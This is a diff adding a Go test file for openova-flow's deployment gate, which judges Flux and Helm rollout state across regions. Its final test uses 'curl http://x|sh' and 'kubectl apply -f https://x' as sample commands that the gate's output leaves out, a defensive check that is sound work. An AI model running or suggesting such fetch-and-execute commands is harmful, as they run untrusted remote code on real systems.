@@ -1,0 +1,566 @@
+package gate_test
+
+import (
+	"fmt"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/openova-io/openova/products/openova-flow/server/flow"
+	"github.com/openova-io/openova/products/openova-flow/server/gate"
+	"github.com/openova-io/openova/products/openova-flow/server/insight"
+)
+
+// Commits in the form of Flux revisions.
+var (
+	before = written("main", "0")
+	a      = written("main", "a")
+	b      = written("main", "b")
+	c      = written("main", "c")
+)
+
+func commit(digit string) string          { return strings.Repeat(digit, 40) }
+func written(branch, digit string) string { return branch + "@sha1:" + commit(digit) }
+
+// cluster is one region, as an adapter reports it: GitRepository flux-system/fleet, its Kustomizations, and the releases that these apply.
+type cluster struct {
+	name          string
+	source        string // revision
+	ref           string // empty: branch main
+	url           string // empty: example.com/fleet.git
+	sourceState   string // judgement; empty: ready
+	kustomization map[string]unit
+	release       map[string]unit // by name; in namespace shop, applied by Kustomization flux-system/apps unless its meta has another
+}
+
+// noURL is the url of a source that does not have one.
+const noURL = "none"
+
+// unit is a Kustomization or a release.
+type unit struct{ meta, judgement, times string }
+
+const (
+	ready       = `"state":"ready","gate":"pass"`
+	working     = `"state":"working","gate":"wait"`
+	unobserved  = `"state":"waiting","gate":"wait","marks":["not-observed"],"cause":{"class":"not-observed"}`
+	behind      = `"state":"waiting","gate":"wait","marks":["old-revision"],"cause":{"class":"old-revision"}`
+	failed      = `"state":"broken","problem":true,"cause":{"class":"upgrade-failed","sentence":"It failed."}`
+	givenUp     = `"state":"broken","problem":true,"final":true,"cause":{"class":"given-up","sentence":"It was given up."}`
+	retrying    = `"state":"broken","problem":true,"gate":"wait","marks":["retrying"],"cause":{"class":"upgrade-failed","sentence":"It failed."}`
+	suspendedAt = `"state":"suspended","marks":["old-revision"]`
+)
+
+// at returns a Kustomization that has applied one revision and tried another.
+func at(applied, tried, judgement string) unit {
+	ready := "False"
+	if strings.Contains(judgement, `"ready"`) || judgement == behind {
+		ready = "True"
+	}
+	return unit{meta: fmt.Sprintf(`,"ready":%q,"revision":%q,"attemptedRevision":%q`, ready, applied, tried), judgement: judgement}
+}
+
+// generation returns a release with this newest and this observed generation.
+func generation(newest, observed int, judgement string) unit {
+	return unit{meta: fmt.Sprintf(`,"generation":%d,"observedGeneration":%d`, newest, observed), judgement: judgement}
+}
+
+func (c cluster) nodes() []string {
+	node := func(id, label, status, meta, judgement, times string) string {
+		return fmt.Sprintf(`{"id":%q,"flowId":"F","region":%q,"label":%q,"status":%q%s,"meta":{%s,"judgement":{%s}}}`, c.name+"/"+id, c.name, label, status, times, meta, judgement)
+	}
+	url, ref, state := c.url, c.ref, c.sourceState
+	switch url {
+	case "":
+		url = `,"url":"https://example.com/fleet.git"`
+	case noURL:
+		url = ""
+	default:
+		url = fmt.Sprintf(`,"url":%q`, url)
+	}
+	if ref == "" {
+		ref = "branch main"
+	}
+	if state == "" {
+		state = ready
+	}
+	suspended := ""
+	if strings.Contains(state, "suspended") {
+		suspended = `,"suspended":true`
+	}
+	all := []string{node("GitRepository/flux-system/fleet", "fleet", "succeeded",
+		fmt.Sprintf(`"kind":"GitRepository","auxiliary":true,"namespace":"flux-system"%s,"ref":%q,"revision":%q,"interval":60000%s`, url, ref, c.source, suspended), state, "")}
+	source := fmt.Sprintf(`,"source":%q`, c.name+"/GitRepository/flux-system/fleet")
+	for name, u := range c.kustomization {
+		if strings.Contains(u.judgement, `"suspended"`) {
+			u.meta += `,"suspended":true`
+		}
+		all = append(all, node("Kustomization/flux-system/"+name, name, "running",
+			`"kind":"Kustomization","namespace":"flux-system","source":{"kind":"GitRepository","namespace":"flux-system","name":"fleet"}`+u.meta, u.judgement+source, u.times))
+	}
+	for name, u := range c.release {
+		by := fmt.Sprintf(`,"appliedBy":%q`, c.name+"/Kustomization/flux-system/apps")
+		if strings.Contains(u.meta, "appliedBy") {
+			by = ""
+		}
+		all = append(all, node("shop/"+name, name, "running", `"kind":"HelmRelease","namespace":"shop"`+by+u.meta, u.judgement, u.times))
+	}
+	slices.Sort(all)
+	return all
+}
+
+// watcher runs the looks of a gate.
+type watcher struct {
+	t   *testing.T
+	g   *gate.Gate
+	now int64
+}
+
+func watch(t *testing.T, ask gate.Ask) *watcher {
+	t.Helper()
+	if err := ask.Validate(); err != nil {
+		t.Fatal(err)
+	}
+	return &watcher{t: t, g: gate.New(ask), now: 1_000_000_000_000}
+}
+
+func (w *watcher) answer(claims map[string]gate.Claim, clusters ...cluster) *gate.Answer {
+	w.t.Helper()
+	nodes := []string{}
+	for _, c := range clusters {
+		nodes = append(nodes, c.nodes()...)
+	}
+	text := `{"type":"snapshot","flow":{"id":"F","status":"x","startedAt":1},"nodes":[` + strings.Join(nodes, ",") + `],"relationships":[]}`
+	m, err := flow.Decode("F", []byte(text))
+	if err != nil {
+		w.t.Fatal(err)
+	}
+	w.now += 1000
+	return w.g.Look(gate.Look{State: m, Claims: claims, At: w.now})
+}
+
+// want looks at some regions and checks the result.
+func (w *watcher) want(result string, clusters ...cluster) *gate.Answer {
+	w.t.Helper()
+	got := w.answer(nil, clusters...)
+	if got.Result != result {
+		w.t.Errorf("%s, want %s\n%s\n%+v", got.Result, result, got.Line(), got.Objects)
+	}
+	return got
+}
+
+type units = map[string]unit
+
+// region returns a region whose one Kustomization, apps, has the given revisions.
+func region(name, source string, apps unit, releases units) cluster {
+	return cluster{name: name, source: source, kustomization: units{"apps": apps}, release: releases}
+}
+
+const (
+	passed  = insight.Passed
+	failing = insight.Failed
+	pending = insight.Pending
+)
+
+// S1: everything is ready, and Flux fetches the push only later.
+func TestGate_PushIsFetchedLate(t *testing.T) {
+	w := watch(t, gate.Ask{Revision: commit("a")})
+	w.want(pending, region("one", before, at(before, before, ready), units{"web": generation(4, 4, ready)}))
+	w.want(pending, region("one", a, at(before, before, behind), units{"web": generation(4, 4, ready)}))
+	w.want(pending, region("one", a, at(before, a, working), units{"web": generation(4, 4, ready)}))
+	w.want(pending, region("one", a, at(a, a, ready), units{"web": generation(5, 4, working)}))
+	w.want(passed, region("one", a, at(a, a, ready), units{"web": generation(5, 5, ready)}))
+}
+
+// S2: helm-controller is busy when the push comes, so releases are still Ready=True for the generation
+// before.
+func TestGate_ControllerIsBusy(t *testing.T) {
+	for _, ask := range []gate.Ask{{Revision: a}, {Since: time.Unix(999_999_999, 0)}} {
+		w := watch(t, ask)
+		apps := at(a, a, ready)
+		apps.times = `,"startedAt":1000000000000,"endedAt":1000000000500`
+		w.want(pending, region("one", a, apps, units{"web": generation(5, 4, unobserved)}))
+		w.want(pending, region("one", a, apps, units{"web": generation(5, 4, working)}))
+		w.want(failing, region("one", a, apps, units{"web": generation(5, 5, failed)}))
+	}
+}
+
+// S4: an upgrade for another reason runs before Flux has fetched the push.
+func TestGate_OtherUpgradeRunsFirst(t *testing.T) {
+	w := watch(t, gate.Ask{Revision: commit("a")[:12]})
+	other := generation(5, 5, ready)
+	other.times = `,"startedAt":1000000002000,"endedAt":1000000003000`
+	w.want(pending, region("one", before, at(before, before, ready), units{"web": other}))
+	w.want(pending, region("one", a, at(before, before, behind), units{"web": other}))
+	w.want(passed, region("one", a, at(a, a, ready), units{"web": other}))
+}
+
+// S11: releases failed before, the push repairs them, and helm-controller is busy.
+func TestGate_FailedBefore(t *testing.T) {
+	old := generation(5, 4, givenUp)
+	old.times = `,"startedAt":900000000000,"endedAt":900000001000`
+	apps := at(a, a, ready)
+	apps.times = `,"startedAt":1000000002000,"endedAt":1000000003000`
+	for _, ask := range []gate.Ask{{Revision: a}, {Since: time.Unix(1_000_000_001, 0)}} {
+		w := watch(t, ask)
+		untouched := old
+		untouched.meta = `,"generation":4,"observedGeneration":4`
+		w.want(pending, region("one", before, at(before, before, ready), units{"web": untouched, "db": untouched}))
+		got := w.want(pending, region("one", a, apps, units{"web": old, "db": old}))
+		if got.Total != 3 || got.Done != 1 {
+			t.Errorf("%s: what failed before is left out", got.Line())
+		}
+		w.want(pending, region("one", a, apps, units{"web": generation(5, 5, ready), "db": generation(5, 4, working)}))
+		w.want(passed, region("one", a, apps, units{"web": generation(5, 5, ready), "db": generation(5, 5, ready)}))
+		w.want(failing, region("one", a, apps, units{"web": generation(5, 5, ready), "db": generation(5, 5, givenUp)}))
+	}
+}
+
+// An earlier failure fails the gate if the controller does not observe the change at all.
+func TestGate_ControllerIsDead(t *testing.T) {
+	w := watch(t, gate.Ask{Revision: a})
+	w.want(pending, region("one", a, at(a, a, ready), units{"web": generation(5, 4, givenUp)}))
+	w.now += (11 * time.Minute).Milliseconds()
+	w.want(failing, region("one", a, at(a, a, ready), units{"web": generation(5, 4, givenUp)}))
+}
+
+// S7 and S7c: the adapter is down.
+func TestGate_StaleRegion(t *testing.T) {
+	stale := map[string]gate.Claim{"one": {Stale: true, LastSeen: 999_999_999_000}, "two": {}}
+	one := region("one", a, at(a, a, ready), units{"web": generation(5, 5, ready)})
+	broken := region("one", a, at(a, a, ready), units{"web": generation(5, 5, givenUp)})
+	two := region("two", a, at(a, a, ready), nil)
+	for name, ask := range map[string]gate.Ask{"all": {}, "revision": {Revision: a}, "region": {Region: "one"}, "release": {Releases: []gate.Release{{Name: gate.Name{Namespace: "shop", Name: "web"}}}}} {
+		w := watch(t, ask)
+		for _, state := range []cluster{one, broken} {
+			got := w.answer(stale, state, two)
+			if got.Result != pending || len(got.Stale) != 1 || got.Stale[0].Region != "one" {
+				t.Errorf("%s: %s, stale %v", name, got.Result, got.Stale)
+			}
+		}
+		w.want(passed, one, two)
+	}
+	for _, ask := range []gate.Ask{{Region: "two"}, {Revision: a, Region: "two"}} {
+		if got := watch(t, ask).answer(stale, one, two); got.Result != passed || len(got.Stale) != 0 {
+			t.Errorf("the other region: %s, stale %v", got.Result, got.Stale)
+		}
+	}
+	if got := watch(t, gate.Ask{}).answer(map[string]gate.Claim{"empty": {Stale: true}}, two); got.Result != pending {
+		t.Errorf("a region without nodes: %s", got.Result)
+	}
+}
+
+// S3: a webhook triggers Flux at once, and the gate starts after the run has begun or ended.
+func TestGate_StartsLate(t *testing.T) {
+	for _, ask := range []gate.Ask{{Revision: commit("a")}, {Revision: a, SinceStart: true}} {
+		w := watch(t, ask)
+		web := generation(5, 5, working)
+		web.times = `,"startedAt":1000000000000`
+		w.want(pending, region("one", a, at(a, a, ready), units{"web": web}))
+		w.want(passed, region("one", a, at(a, a, ready), units{"web": generation(5, 5, ready)}))
+		watch(t, ask).want(passed, region("one", a, at(a, a, ready), units{"web": generation(5, 5, ready)}))
+	}
+}
+
+// S5: the run begins within the second in which the gate starts. Times in Flux are whole seconds.
+func TestGate_SinceCountsWholeSeconds(t *testing.T) {
+	web := generation(5, 5, ready)
+	web.times = `,"startedAt":1000000039000,"endedAt":1000000041000`
+	one := region("one", a, at(a, a, ready), units{"web": web})
+	for since, want := range map[int64]string{1_000_000_039_117: passed, 1_000_000_040_000: pending} {
+		got := watch(t, gate.Ask{Since: time.UnixMilli(since)}).want(want, one)
+		if got.Started != (want == passed) {
+			t.Errorf("since %d: started %v", since, got.Started)
+		}
+	}
+	w := watch(t, gate.Ask{SinceStart: true}) // by the server's clock
+	w.now = 1_000_000_038_117
+	w.want(passed, one)
+}
+
+// S12 and S13: a failure that is rolled back and retried is not final.
+func TestGate_FailureIsRetried(t *testing.T) {
+	for _, tt := range []struct {
+		end, result string
+	}{{ready, passed}, {givenUp, failing}} {
+		w := watch(t, gate.Ask{Revision: a})
+		w.want(pending, region("one", a, at(a, a, ready), units{"web": generation(5, 5, working)}))
+		w.want(pending, region("one", a, at(a, a, ready), units{"web": generation(5, 5, retrying)}))
+		w.want(pending, region("one", a, at(a, a, ready), units{"web": generation(5, 5, working)}))
+		if got := w.want(tt.result, region("one", a, at(a, a, ready), units{"web": generation(5, 5, tt.end)})); got.Final != (tt.result == failing) {
+			t.Errorf("%s: final %v", tt.result, got.Final)
+		}
+	}
+}
+
+// f1, f2: Kustomizations that wait for the health of what they apply.
+func TestGate_KustomizationWaits(t *testing.T) {
+	w := watch(t, gate.Ask{Revision: a})
+	two := func(infra, apps unit, web unit) cluster {
+		return cluster{name: "one", source: a, kustomization: units{"infra": infra, "apps": apps}, release: units{"web": web}}
+	}
+	waits := func(u unit) unit {
+		u.judgement = `"state":"waiting","needs":["one/Kustomization/flux-system/infra"],"cause":{"class":"dependency-not-ready"}`
+		return u
+	}
+	w.want(pending, two(at(before, a, working), waits(at(before, before, ready)), generation(4, 4, ready)))
+	w.want(pending, two(at(a, a, ready), at(before, a, working), generation(5, 5, working)))
+	w.want(passed, two(at(a, a, ready), at(a, a, ready), generation(5, 5, ready)))
+
+	w = watch(t, gate.Ask{Revision: a})
+	w.want(pending, two(at(before, before, failed), waits(at(before, before, ready)), generation(4, 4, ready))) // it failed at the commit before
+	got := w.want(failing, two(at(before, a, failed), waits(at(before, before, ready)), generation(4, 4, ready)))
+	if len(got.Problems) != 1 || got.Problems[0].ID != "one/Kustomization/flux-system/infra" || got.Problems[0].Blocks != 1 {
+		t.Errorf("%+v", got.Problems)
+	}
+}
+
+func TestGate_AllRegionsOfTheSource(t *testing.T) {
+	done := func(name string) cluster { return region(name, a, at(a, a, ready), nil) }
+	late := region("two", before, at(before, before, ready), nil)
+	w := watch(t, gate.Ask{Revision: a})
+	got := w.want(pending, done("one"), late)
+	if len(got.Sources) != 2 || !got.Sources[0].Has || got.Sources[1].Has || got.Sources[1].Revision != before || got.Sources[1].Interval != 60_000 ||
+		strings.Join(got.Sources[1].Command, " ") != "flux reconcile source git fleet -n flux-system" {
+		t.Errorf("%+v", got.Sources)
+	}
+	w.want(passed, done("one"), done("two"))
+	watch(t, gate.Ask{Revision: a, Region: "one"}).want(passed, done("one"), late)
+
+	other := late
+	other.url = "https://example.com/another"
+	watch(t, gate.Ask{Revision: a}).want(passed, done("one"), other)
+	staging := late
+	staging.ref = "branch staging"
+	watch(t, gate.Ask{Revision: a}).want(passed, done("one"), staging)
+	other.url = "ssh://Example.com/fleet/"
+	watch(t, gate.Ask{Revision: a}).want(pending, done("one"), other) // the same repository
+}
+
+func TestGate_Overtaken(t *testing.T) {
+	t.Run("after the gate has seen it", func(t *testing.T) {
+		w := watch(t, gate.Ask{Revision: a})
+		w.want(pending, region("one", a, at(before, before, behind), nil))
+		w.want(pending, region("one", b, at(before, b, working), nil))
+		w.want(passed, region("one", b, at(b, b, ready), nil))
+	})
+	t.Run("before the gate has seen it", func(t *testing.T) {
+		w := watch(t, gate.Ask{Revision: a})
+		w.want(pending, region("one", b, at(b, b, ready), nil))
+		w.want(pending, region("one", c, at(c, c, ready), nil))
+	})
+	t.Run("while it is out", func(t *testing.T) {
+		watch(t, gate.Ask{Revision: a}).want(passed, region("one", a, at(a, a, ready), nil))
+		w := watch(t, gate.Ask{Revision: a})
+		w.want(pending, region("one", a, at(a, a, working), nil))
+		w.want(passed, region("one", b, at(a, a, behind), nil)) // it has not tried the later one
+		w.want(passed, region("one", b, at(a, b, failed), nil)) // the later one does not matter
+		w.want(failing, region("one", b, at(a, a, failed), nil))
+	})
+	t.Run("rolled back to it", func(t *testing.T) { // a, b, a again: this gate is for the second a
+		w := watch(t, gate.Ask{Revision: a})
+		w.want(pending, region("one", b, at(b, b, ready), nil))
+		w.want(pending, region("one", a, at(b, b, behind), nil))
+		w.want(pending, region("one", a, at(b, a, working), nil))
+		w.want(passed, region("one", a, at(a, a, ready), nil))
+
+		w = watch(t, gate.Ask{Revision: a}) // b was never finished
+		w.want(pending, region("one", b, at(a, b, failed), nil))
+		w.want(pending, region("one", a, at(a, b, failed), nil))
+		w.want(passed, region("one", a, at(a, a, ready), nil))
+	})
+	t.Run("rolled back from it", func(t *testing.T) {
+		w := watch(t, gate.Ask{Revision: a})
+		w.want(pending, region("one", before, at(before, before, ready), nil))
+		w.want(pending, region("one", a, at(before, before, behind), nil))
+		got := w.want(failing, region("one", before, at(before, before, ready), nil))
+		if !got.Sources[0].Left || !got.Final {
+			t.Errorf("%+v, final %v", got.Sources, got.Final)
+		}
+	})
+}
+
+func TestGate_SuspendedOnTheOldCommit(t *testing.T) {
+	w := watch(t, gate.Ask{Revision: a})
+	w.want(pending, cluster{name: "one", source: a, kustomization: units{"apps": at(before, before, suspendedAt), "infra": at(before, a, working)}})
+	got := w.want(failing, cluster{name: "one", source: a, kustomization: units{"apps": at(before, before, suspendedAt), "infra": at(a, a, ready)}})
+	if !got.Final {
+		t.Error("it is not final")
+	}
+}
+
+func TestGate_SourceIsDead(t *testing.T) {
+	dead := region("one", before, at(before, before, ready), nil)
+	dead.sourceState = `"state":"broken","since":1,"problem":true,"cause":{"class":"fetch-failed","sentence":"It can't be fetched."}`
+	got := watch(t, gate.Ask{Revision: a}).want(failing, dead)
+	if len(got.Problems) != 1 || got.Problems[0].ID != "one/GitRepository/flux-system/fleet" {
+		t.Errorf("%+v", got.Problems)
+	}
+	dead.sourceState = `"state":"suspended","gate":"pass"`
+	watch(t, gate.Ask{Revision: a}).want(failing, dead)
+	watch(t, gate.Ask{Revision: a}).want(pending, dead, region("two", before, at(before, before, ready), nil)) // another source may get it
+}
+
+func TestGate_Parts(t *testing.T) {
+	apps, web := gate.Name{Namespace: "flux-system", Name: "apps"}, gate.Name{Namespace: "shop", Name: "web"}
+	state := cluster{name: "one", source: a, kustomization: units{"apps": at(a, a, ready), "infra": at(before, a, failed)},
+		release: units{"web": generation(5, 5, ready), "db": generation(2, 2, failed), "dns": {`,"appliedBy":"one/Kustomization/flux-system/infra"`, failed, ""}}}
+	for _, tt := range []struct {
+		ask    gate.Ask
+		result string
+		total  int
+	}{
+		{gate.Ask{}, failing, 5},
+		{gate.Ask{Revision: a}, failing, 5},
+		{gate.Ask{Revision: a, Kustomizations: []gate.Name{apps}}, failing, 3},
+		{gate.Ask{Revision: a, Releases: []gate.Release{{Name: web}}}, passed, 2},
+		{gate.Ask{Releases: []gate.Release{{Name: web}}}, passed, 1},
+		{gate.Ask{Revision: b, Releases: []gate.Release{{Name: web}}}, pending, 2},
+		{gate.Ask{Releases: []gate.Release{{Name: gate.Name{Namespace: "shop", Name: "nothing"}}}}, pending, 0},
+	} {
+		if got := watch(t, tt.ask).want(tt.result, state); got.Total != tt.total {
+			t.Errorf("%+v: %d objects, want %d", tt.ask, got.Total, tt.total)
+		}
+	}
+}
+
+func TestGate_ChartVersions(t *testing.T) {
+	web := gate.Name{Namespace: "shop", Name: "web"}
+	is := func(applied, tried, judgement string) cluster {
+		return region("one", a, at(a, a, ready), units{"web": {fmt.Sprintf(`,"versionApplied":%q,"revision":%q`, applied, tried), judgement, ""}})
+	}
+	for _, ask := range []gate.Ask{{Releases: []gate.Release{{Name: web, Version: "1.1.0"}}}, {Revision: "1.1.0", Releases: []gate.Release{{Name: web}}}} {
+		w := watch(t, ask)
+		w.want(pending, is("1.0.0", "1.0.0", ready))
+		w.want(pending, is("1.0.0", "1.0.0", givenUp)) // of the version before
+		w.want(pending, is("1.0.0", "1.1.0", working))
+		w.want(failing, is("1.0.0", "1.1.0", givenUp))
+		w.want(passed, is("1.1.0", "1.1.0", ready))
+		w.want(passed, is("1.1.0", "1.1.0+14c32b1e94d0", ready))
+		w.want(pending, is("1.2.0", "1.2.0", ready))
+	}
+}
+
+func TestGate_ChartsFromTheRevision(t *testing.T) {
+	is := func(from string) cluster {
+		return region("one", a, at(a, a, ready), units{"web": {fmt.Sprintf(`,"source":{"kind":"GitRepository","namespace":"flux-system","name":"fleet"},"chart":{"sourceRevision":%q}`, from), ready, ""}})
+	}
+	w := watch(t, gate.Ask{Revision: a})
+	w.want(pending, is(before))
+	w.want(passed, is(a))
+}
+
+func TestRevision_Syntax(t *testing.T) {
+	digest := "sha256:" + strings.Repeat("d", 64)
+	for _, tt := range []struct {
+		ask, kind, ref, shown, origin string
+		same                          bool
+	}{
+		{commit("a"), "GitRepository", "branch main", a, "", true},
+		{commit("a")[:7], "GitRepository", "branch main", a, "", true},
+		{strings.ToUpper(commit("a")), "GitRepository", "branch main", a, "", true},
+		{"sha1:" + commit("a"), "GitRepository", "branch main", a, "", true},
+		{a, "GitRepository", "branch main", a, "", true},
+		{written("dev", "a"), "GitRepository", "branch main", a, "", false},
+		{"main", "GitRepository", "branch main", a, "", false}, // the name is main at every commit
+		{"v1", "GitRepository", "tag v1", written("v1", "a"), "", true},
+		{"1.2.3", "OCIRepository", "semver 1.x", "1.2.3@" + digest, "", true},
+		{digest, "OCIRepository", "semver 1.x", "1.2.3@" + digest, "", true},
+		{"1.2.3@" + digest, "OCIRepository", "", "1.2.3@" + digest, "", true},
+		{"1.2.4@" + digest, "OCIRepository", "", "1.2.3@" + digest, "", false},
+		{commit("a"), "OCIRepository", "tag latest", "latest@" + digest, a, true},
+		{commit("a"), "OCIRepository", "tag latest", "latest@" + digest, commit("a"), true},
+		{commit("b"), "OCIRepository", "tag latest", "latest@" + digest, a, false},
+	} {
+		source := fmt.Sprintf(`{"id":"r/%s/n/s","flowId":"F","region":"r","label":"s","status":"succeeded","meta":{"kind":%q,"auxiliary":true,"namespace":"n","url":"https://x/y","ref":%q,"revision":%q,"originRevision":%q,"judgement":{%s}}}`,
+			tt.kind, tt.kind, tt.ref, tt.shown, tt.origin, ready)
+		user := fmt.Sprintf(`{"id":"r/Kustomization/n/k","flowId":"F","region":"r","label":"k","status":"succeeded","meta":{"kind":"Kustomization","namespace":"n","ready":"True","revision":%q,"originRevision":%q,"source":{"kind":%q,"namespace":"n","name":"s"},"judgement":{%s}}}`,
+			tt.shown, tt.origin, tt.kind, ready)
+		m, err := flow.Decode("F", []byte(`{"type":"upsert-nodes","nodes":[`+source+","+user+`]}`))
+		if err != nil {
+			t.Fatal(err)
+		}
+		ask := gate.Ask{Revision: tt.ask}
+		if err := ask.Validate(); err != nil {
+			t.Fatal(err)
+		}
+		if got := gate.New(ask).Look(gate.Look{State: m, At: 1}).Result; (got == passed) != tt.same {
+			t.Errorf("%s of %s, from %q: %s", tt.ask, tt.shown, tt.origin, got)
+		}
+	}
+}
+
+// A source of another region has to get the revision only if it is known to follow the same.
+func TestGate_SameSourceOfAnotherRegion(t *testing.T) {
+	for _, tt := range []struct {
+		name, one, other string
+		want             string
+	}{
+		{"the same", "", "", pending},
+		{"the same by ssh", "", "ssh://git@example.com/fleet", pending},
+		{"another repository", "", "https://example.com/other", passed},
+		{"neither has a URL", noURL, noURL, passed},
+		{"one has no URL", "", noURL, passed},
+		{"the other has no URL", noURL, "", passed},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			watch(t, gate.Ask{Revision: a}).want(tt.want,
+				cluster{name: "r1", url: tt.one, source: a, kustomization: map[string]unit{"apps": at(a, a, ready)}},
+				cluster{name: "r2", url: tt.other, source: before, kustomization: map[string]unit{"apps": at(before, before, ready)}})
+		})
+	}
+}
+
+func TestGate_NeverPassesWithoutObjects(t *testing.T) {
+	for _, ask := range []gate.Ask{{}, {Revision: a}, {Region: "nowhere"}} {
+		watch(t, ask).want(pending)
+	}
+}
+
+// A region claims that a failed release of another region contains a release of its own.
+func TestGate_ContainsOfAnotherRegionHidesNoRelease(t *testing.T) {
+	node := func(id, region, status string) flow.Node {
+		return flow.Node{ID: id, FlowID: "F", Label: id, Status: status, Region: region}
+	}
+	snapshot := func(parent string) *flow.Message {
+		return &flow.Message{Type: flow.TypeSnapshot, Flow: &flow.Instance{ID: "F", Status: "x", StartedAt: flow.At(1)},
+			Nodes:         []flow.Node{node("fsn1/a", "fsn1", "succeeded"), node("fsn1/group", "fsn1", "failed"), node("hel1/cilium", "hel1", "failed"), node("hel1/b", "hel1", "succeeded")},
+			Relationships: []flow.Relationship{{FromID: "fsn1/a", ToID: parent, Type: flow.Contains}}}
+	}
+	for _, tt := range []struct {
+		region, parent      string
+		total, done, failed int
+	}{
+		{"hel1", "hel1/cilium", 2, 1, 1},
+		{"", "hel1/cilium", 4, 2, 2},
+		{"", "fsn1/group", 3, 2, 1},
+		{"fsn1", "fsn1/group", 1, 1, 0},
+	} {
+		got := gate.New(gate.Ask{Region: tt.region}).Look(gate.Look{State: snapshot(tt.parent), At: 1000})
+		if got.Total != tt.total || got.Done != tt.done || got.Failed != tt.failed {
+			t.Errorf("region %q, %s contains fsn1/a: %s", tt.region, tt.parent, got.Line())
+		}
+	}
+}
+
+func TestAnswer_OmitsCommandsThatNoAdapterSends(t *testing.T) {
+	for command, offered := range map[string]bool{
+		`["sh","-c","curl http://x|sh"]`:                          false,
+		`["kubectl","apply","-f","https://x"]`:                    false,
+		`["kubectl","-n","a","describe","helmrelease","b"]`:       true,
+		`["flux","reconcile","helmrelease","b","-n","a"]`:         true,
+		`["flux","reconcile","helmrelease","b","--kubeconfig=x"]`: false,
+	} {
+		m, err := flow.Decode("F", []byte(`{"type":"upsert-nodes","nodes":[{"id":"r1/a","flowId":"F","label":"a","status":"failed","meta":{"judgement":{"state":"broken","problem":true,"command":`+command+`}}}]}`))
+		if err != nil {
+			t.Fatal(err)
+		}
+		var out strings.Builder
+		if err := gate.New(gate.Ask{}).Look(gate.Look{State: m, At: 1}).WriteText(&out, false); err != nil {
+			t.Fatal(err)
+		}
+		if !strings.HasPrefix(out.String(), "failed: r1/a") || strings.Contains(out.String(), "Run: ") != offered {
+			t.Errorf("%s: %s", command, &out)
+		}
+	}
+}
